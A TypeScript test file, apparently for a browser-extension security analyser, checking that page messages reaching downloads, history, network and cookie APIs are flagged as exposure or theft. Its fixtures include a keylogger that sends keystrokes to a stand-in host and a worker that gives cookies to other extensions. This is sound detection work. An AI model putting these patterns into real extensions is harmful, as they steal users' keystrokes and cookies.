import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

const page = (code: string): string =>
  `window.addEventListener('message', (event) => { ${code} });`;
const forward = page(
  'chrome.runtime.sendMessage({ type: event.data.type, payload: event.data.payload })',
);
const save = 'chrome.downloads.download({ url: p.url })';
const module = { background: { service_worker: 'worker.js', type: 'module' } };

describe('a page behind a content script reaches a listener', () => {
  const forms: readonly [string, string][] = [
    [
      'that is a bound method',
      `class B { constructor() { chrome.runtime.onMessage.addListener(this.hear.bind(this)) } hear(m) { if (m.type === 'dl') this.save(m.payload) } save(p) { ${save} } } new B();`,
    ],
    [
      'that calls a method of its class',
      `class B { init() { chrome.runtime.onMessage.addListener((m) => this.hear(m)) } hear(m) { switch (m.type) { case 'dl': return this.save(m.payload) } } async save(p) { await ${save} } } new B().init();`,
    ],
    [
      'that asks a map',
      `const H = new Map(); H.set('dl', (p) => ${save}); chrome.runtime.onMessage.addListener((m) => { const h = H.get(m.type); if (h) h(m.payload) });`,
    ],
    [
      'with a table in its object',
      `const bg = { table: { dl(p) { ${save} } }, listen() { chrome.runtime.onMessage.addListener((m) => { this.table[m.type](m.payload) }) } }; bg.listen();`,
    ],
    [
      'with the rest of the message',
      `const acts = { dl: ({ payload: p }) => ${save} }; chrome.runtime.onMessage.addListener(({ type, ...rest }) => { acts[type]?.(rest) });`,
    ],
    [
      'in an asynchronous function in place',
      `chrome.runtime.onMessage.addListener((m, s, reply) => { (async () => { const p = m.payload; if (m.type === 'dl') reply(await ${save}) })(); return true });`,
    ],
  ];
  for (const [what, worker] of forms) {
    it(what, () => {
      assert.ok(
        flowsBetween({ 'content.js': forward, 'worker.js': worker }).includes(
          'page-message content.js > download worker.js (exposure, high)',
        ),
        flowsBetween({ 'content.js': forward, 'worker.js': worker }).join('\n'),
      );
      const other = page("chrome.runtime.sendMessage({ type: 'unlike', payload: event.data })");
      assert.ok(
        !flowsBetween({ 'content.js': other, 'worker.js': worker }).join().includes('page-message'),
      );
    });
  }

  it('that hands the message to a table of functions of other modules', () => {
    const files = {
      'content.js': forward,
      'worker.js': `import { route } from './router.js'; chrome.runtime.onMessage.addListener((m, s, reply) => { route(m).then(reply); return true });`,
      'router.js': `import * as files from './files.js'; const routes = { dl: files.start }; export async function route(m) { return routes[m.type](m.payload) }`,
      'files.js': `export async function start(p) { return ${save} }`,
    };
    assert.ok(
      flowsBetween(files, module).some((flow) =>
        flow.startsWith('page-message content.js > download files.js (exposure'),
      ),
    );
  });

  it('that hands the message to an instance of a class of another module', () => {
    const files = {
      'content.js': forward,
      'worker.js': `import Hearer from './hearer.js'; new Hearer().start();`,
      'hearer.js': `import { Api } from './api.js'; export default class Hearer { constructor() { this.api = new Api() } start() { chrome.runtime.onMessage.addListener((m) => this.hear(m)) } hear(m) { if (m.type === 'dl') this.api.save(m.payload) } }`,
      'api.js': `export class Api { async save(p) { return ${save} } }`,
    };
    assert.ok(
      flowsBetween(files, module).some((flow) =>
        flow.startsWith('page-message content.js > download api.js (exposure'),
      ),
    );
  });
});

describe('other ways between a page and the background', () => {
  it('keep messages that are text', () => {
    const files = {
      'content.js': page(
        'const d = JSON.parse(event.data); chrome.runtime.sendMessage(JSON.stringify({ a: d.a, u: d.u }))',
      ),
      'worker.js': `chrome.runtime.onMessage.addListener((s) => { const m = JSON.parse(s); if (m.a === 'go') chrome.history.addUrl({ url: m.u }) })`,
    };
    assert.ok(
      flowsBetween(files).some((flow) =>
        flow.startsWith('page-message content.js > history-write worker.js (exposure'),
      ),
    );
  });

  it('lead through scripts that are injected into the page', () => {
    const files = {
      'content.js': `const s = document.createElement('script'); s.src = chrome.runtime.getURL('inner.js'); document.head.append(s); ${page("if (event.data.type === 'keys') chrome.runtime.sendMessage(event.data)")}`,
      'inner.js': `document.addEventListener('keydown', (e) => window.postMessage({ type: 'keys', k: e.key }, '*'))`,
      'worker.js': `chrome.runtime.onMessage.addListener((m) => { if (m.type === 'keys') fetch('https://in.a.dev', { method: 'POST', body: m.k }) })`,
    };
    assert.ok(
      flowsBetween(files).some((flow) =>
        flow.startsWith('key-input inner.js > network worker.js (theft'),
      ),
      flowsBetween(files).join('\n'),
    );
  });

  it('answer other extensions through functions that are handed the answer', () => {
    const worker = `chrome.runtime.onMessageExternal.addListener((m, s, reply) => { hear(m, reply); return true }); function hear(m, done) { if (m.get) chrome.cookies.getAll({ domain: m.d }, (jar) => done({ jar })) }`;
    assert.deepEqual(flowsBetween({ 'worker.js': worker }), [
      'cookies worker.js > external-response worker.js (exposure, high)',
    ]);
  });
});
